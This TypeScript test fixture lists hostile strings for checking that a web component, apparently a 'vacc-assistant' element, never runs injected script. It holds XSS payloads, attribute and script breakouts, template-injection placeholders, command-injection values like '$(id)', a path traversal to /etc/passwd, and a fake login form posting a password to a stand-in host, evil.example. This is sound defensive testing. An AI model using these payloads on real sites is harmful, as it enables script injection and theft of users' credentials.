/**
 * Texts that try to be something else. What could run calls `tripped()`, which the tests put on the window: a single
 * call fails them. Grouped by what they try; `hostileStrings` has them all.
 */
const run = 'tripped()';

/** Elements that run scripts, load something or take over a page once they are in a document. */
const elements = [
  `<script>${run}</script>`,
  `<SCRIPT>${run}</SCRIPT>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<script src="data:text/javascript,${run}"></script>`,
  `<script type=module>${run}</script>`,
  `<script/x>${run}</script>`,
  `<script\n>${run}</script\n>`,
  `<script>${run}//`,
  `<svg><script>${run}</script></svg>`,
  `<svg><script href="data:text/javascript,${run}"/></svg>`,
  `<svg><animate attributeName=href to="javascript:${run}" onbegin="${run}"/></svg>`,
  `<svg><set onbegin="${run}" attributeName=x></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload='${run}'/>#x"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${run}</script>"></iframe></foreignObject></svg>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:${run}">x</maction></math>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${run}">`,
  `<iframe src="javascript:parent.${run}"></iframe>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<embed src="javascript:${run}">`,
  `<applet code="x"></applet>`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
  `<meta http-equiv="Content-Security-Policy" content="default-src *">`,
  `<link rel="stylesheet" href="https://evil.example/x.css">`,
  `<link rel="preload" as="script" href="https://evil.example/x.js">`,
  `<style>:host{display:none}</style>`,
  `<style>@import "https://evil.example/x.css";</style>`,
  `<form action="https://evil.example/"><input name=password><button>Sign in</button></form>`,
  `<form id=fetch><input name=querySelector></form>`,
  `<a id=defaultView href="javascript:${run}">x</a>`,
  `<a href="java\tscript:${run}">x</a>`,
  `<button formaction="javascript:${run}">x</button>`,
  `<isindex type=image src=x onerror=${run}>`,
  `<template shadowrootmode=open><script>${run}</script></template>`,
  `<slot name="disclaimer"></slot>`,
  `<vacc-assistant base-url="https://evil.example"></vacc-assistant>`,
  `<dialog open>x</dialog>`,
  `<portal src="https://evil.example"></portal>`,
  `<frameset onload=${run}>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<textarea autofocus onfocus=${run}>`,
  `<plaintext>`,
  `<xmp><img src=x onerror=${run}></xmp>`,
  `<title></title><img src=x onerror=${run}>`,
  `<?xml version="1.0"?><x/>`,
  `<!doctype html><html><body onload=${run}>`,
  `<!-- a comment that does not end`,
  `--><img src=x onerror=${run}>`,
  `<![CDATA[<img src=x onerror=${run}>]]>`,
  `]]><script>${run}</script>`,
];

/** Every event that fires without the user or at the first touch, on an element that has it. */
const handlers = [
  ...['abort', 'canplay', 'error', 'load', 'loadstart', 'play', 'toggle', 'wheel'],
  ...['animationend', 'animationstart', 'beforetoggle', 'blur', 'focus', 'focusin', 'pageshow', 'pointerover'],
  ...['auxclick', 'beforeprint', 'click', 'contextmenu', 'copy', 'cut', 'drag', 'hashchange', 'input', 'invalid'],
  ...['keydown', 'message', 'mouseover', 'paste', 'pointerdown', 'popstate', 'resize', 'scroll', 'select', 'submit'],
].map((name, index) => {
  const tag = ['img src=x', 'svg', 'details open', 'video src=x', 'input autofocus', 'body', 'x-planted'][index % 7]!;
  return `<${tag} on${name}=${run}>`;
});

/** Texts that end an attribute, a script, or a text that was escaped once. */
const breakouts = [
  `"><img src=x onerror=${run}>`,
  `'><img src=x onerror=${run}>`,
  `\`><img src=x onerror=${run}>`,
  `</bdi><img src=x onerror=${run}>`,
  `</textarea><img src=x onerror=${run}>`,
  `</script><img src=x onerror=${run}>`,
  `</style><img src=x onerror=${run}>`,
  `</title><img src=x onerror=${run}>`,
  `</template><img src=x onerror=${run}>`,
  `" onmouseover="${run}" x="`,
  `' onmouseover='${run}' x='`,
  ` autofocus onfocus=${run} `,
  `x" style="position:fixed;inset:0" y="`,
  `';${run};//`,
  `";${run};//`,
  `\\";${run};//`,
  `\u2028${run}//`,
  `&lt;img src=x onerror=${run}&gt;`,
  `&#60;img src=x onerror=${run}&#62;`,
  `&amp;lt;script&amp;gt;`,
  `&#x3c;script&#x3e;${run}&#x3c;/script&#x3e;`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  `\\x3cscript\\x3e${run}`,
  `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  `<ſcript>${run}</ſcript>`,
  `＜script＞${run}＜/script＞`,
  `<\u0000script>${run}</script>`,
  `<img src=x onerror=\u0000${run}>`,
  `<img/src=x/onerror=${run}>`,
  `<img src=x onerror=${run}//`,
  `<<img src=x onerror=${run}>`,
  `<img src="x\` onerror=${run}>`,
];

/** Placeholders of template languages, Lit included. */
const templates = [
  ...[
    '${tripped()}',
    '{{tripped()}}',
    '{{constructor.constructor("tripped()")()}}',
    '#{tripped()}',
    '<%= tripped() %>',
  ],
  ...['[[tripped()]]', '{%raw%}{{tripped()}}', '{0}', '{1}{2}{3}', '${0}', '%s %d %n %x', '%00', '%n%n%n%n', '$&$1$`'],
  ...['<!--?lit$000000000$-->', '<?lit$000000000$>', '{{lit-000000000}}', 'lit$000000000$', '$lit$', '<!---->'],
  ...['\\0', '\\', '\\\\', '\\u0000', '\\n', '|', '||', ';', '`id`', '$(id)', '../../../../etc/passwd', '.\\..\\'],
];

/** Names that every object inherits. */
const names = [
  ...['__proto__', 'constructor', 'prototype', '__defineGetter__', '__lookupSetter__', 'hasOwnProperty', 'toString'],
  ...[
    'valueOf',
    'toJSON',
    'then',
    'length',
    'isPrototypeOf',
    'null',
    'undefined',
    'NaN',
    '-Infinity',
    'true',
    '[object Object]',
  ],
  ...['late', 'alert', 'professional', 'javascript:tripped()', 'data:text/html,<script>tripped()</script>'],
];

/** Characters that reverse, hide, stack or end the text around them. */
const characters = [
  ...['\u202Eevil', '\u202Devil', '\u202Bevil', '\u202Aevil', '\u2066evil', '\u2067evil', '\u2068evil'],
  ...[
    '\u2069\u202Eevil',
    '\u202C\u2069\u202Eevil',
    '\u2069\u2069\u2069\u2067evil',
    'a\u202Cb\u2069c',
    '\u2069שלום',
    '\u200Fevil',
  ],
  ...[
    'שלום',
    'مرحبا 12 (abc)',
    '\u061Cevil',
    'ab\u200Bcd',
    'ab\u200Dcd',
    'ab\u2060cd',
    '\uFEFFab',
    'a\u00ADb',
    '\u180Eab',
  ],
  ...[
    'a\u0000b',
    '\u0000',
    'a\u0001b',
    'a\u0007b',
    'a\u0008\u0008b',
    'a\u000Bb',
    'a\u000Cb',
    'a\u007Fb',
    'a\u0085b',
    'a\u009Bb',
  ],
  ...['\u001B[31mred\u001B[0m', '\u001B]0;title\u0007', '\u001B[2J', '\u009B31mred', '\u001Bc'],
  ...[
    'a\uD800b',
    'a\uDC00b',
    '\uDFFF\uD800',
    '\uD83D',
    'a\uFFFEb',
    'a\uFFFFb',
    'a\uFFFDb',
    '\u{10FFFF}',
    '\u{E0041}\u{E0042}',
  ],
  ...['a\r\nb', 'a\rb', 'a\u2028b', 'a\u2029b', '\t\t\ta', 'a\n\n\n\nb', '\u3000a', '\u00A0a'],
  ...['раураl', 'Ϻeasles', 'ⓜⓔⓐⓢⓛⓔⓢ', 'ﬁ', 'İi̇', 'ẞß', '𝕞𝕖𝕒𝕤𝕝𝕖𝕤', '１２／０３／２０２５', 'a\u0301'.repeat(3)],
  ...[
    `Z${'\u0310\u0321'.repeat(200)}`,
    'ﷺ'.repeat(20),
    '👩‍👩‍👧‍👦'.repeat(20),
    '🏴󠁧󠁢󠁥󠁮󠁧󠁿',
    '\u{1F1EB}\u{1F1F7}\u{1F1EB}',
    '뜘됡됡뜘',
    '\u{1F469}\u200D',
  ],
];

/** Long texts: without a break opportunity, with many, and deeply nested. */
const huge = [
  'x'.repeat(20_000),
  'word '.repeat(4_000),
  '<b>'.repeat(2_000),
  '&amp;'.repeat(2_000),
  '('.repeat(5_000),
  '\u202E'.repeat(2_000) + 'a',
];

export const hostileStrings: readonly string[] = [
  ...new Set([...elements, ...handlers, ...breakouts, ...templates, ...names, ...characters, ...huge]),
];
